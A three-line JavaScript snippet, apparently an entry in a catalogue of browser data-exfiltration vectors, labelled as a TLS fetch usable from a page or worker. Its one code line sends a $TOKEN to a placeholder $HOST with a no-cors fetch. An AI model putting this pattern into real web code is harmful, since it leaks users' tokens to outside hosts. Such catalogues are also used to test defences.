// vector: fetch over TLS, in the server name
// where: page, worker
fetch("https://$HOST/$TOKEN", { mode: "no-cors" });
